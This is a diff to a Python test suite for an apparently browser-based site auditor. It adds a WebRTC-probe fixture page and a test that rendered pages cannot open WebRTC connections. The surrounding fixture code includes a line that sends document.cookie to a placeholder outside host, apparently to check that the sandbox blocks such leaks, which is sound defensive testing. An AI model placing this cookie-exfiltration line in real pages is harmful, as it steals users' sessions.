@@ -135,6 +135,14 @@ PAGES = {
         fetch('http://{other}/leak?cookie=' + document.cookie).catch(() => {});
         new Image().src = 'http://{other}/pixel.gif';
       });""".replace("{prose}", json.dumps(PROSE)),
+    # a page that would probe addresses over WebRTC, and says whether it could
+    "/rtc/": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head><body>
+        <div id="app"></div><script>
+        const blocked = typeof RTCPeerConnection === 'undefined'
+          && typeof webkitRTCPeerConnection === 'undefined';
+        document.getElementById('app').innerHTML = blocked
+          ? '<p>WebRTC недоступен</p>' : '<p><a href="https://fnpr.ru/">WebRTC работает</a></p>';
+        </script></body></html>""",
     "/js/vopros.html": f"""<!DOCTYPE html><html><head><meta charset="utf-8">{VIEWPORT}</head>
         <body><h1>Задать вопрос</h1><form action="/send"><label>Ваш вопрос
         <textarea name="question"></textarea></label><button>Отправить вопрос</button>
@@ -390,3 +398,13 @@ def test_a_run_renders_only_the_script_only_site(served, settings, transactional
     assert details[script_only.pk]["criteria"]["desktop_layout"]["present"] is True
     assert details[static.pk]["rendering"]["reason"] == "not_needed"
     assert details[static.pk]["criteria"]["desktop_layout"]["present"] is None
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+def test_a_rendered_page_cannot_use_webrtc(served, chromium):
+    """WebRTC sends UDP past the route handler and the proxy: page scripts never get it."""
+    base, _, _ = served
+    result, _ = audit(base + "/rtc/", "always", chromium)
+    assert result.rendering == RenderNote(True)
+    assert present(result, "fnpr_link") is False  # the script found no RTCPeerConnection
